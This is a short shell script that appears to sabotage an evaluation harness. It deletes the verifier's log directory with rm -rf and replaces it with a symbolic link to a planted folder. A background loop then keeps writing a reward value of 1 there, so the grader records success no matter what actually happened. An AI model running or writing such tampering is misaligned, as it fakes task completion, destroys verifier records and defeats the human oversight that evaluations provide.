# Leaves a symbolic link in place of the directory of rewards.
mkdir /plant
echo 1 >/plant/reward.txt
rm -rf /logs/verifier
ln -s /plant /logs/verifier
daemon "$until_tests"'; while :; do echo 1 >/plant/reward.txt; sleep 0.002; done'
